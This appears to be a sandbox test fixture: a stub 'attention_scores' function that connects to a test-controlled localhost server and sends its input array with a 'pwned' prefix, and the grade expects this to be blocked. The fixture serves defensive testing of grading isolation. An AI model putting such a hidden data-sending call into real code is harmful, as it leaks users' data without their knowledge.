"""attention_scores phones home: a TCP connection to a server the test runs on localhost."""
EXPECT = {"3": 0}
FEEDBACK = ["no network access while grading"]

import socket as _socket


def attention_scores(X, E, mode):
    with _socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as conn:
        conn.sendall(b"pwned: " + repr(X.tolist()).encode())
    raise ValueError("unreachable if the sandbox works")
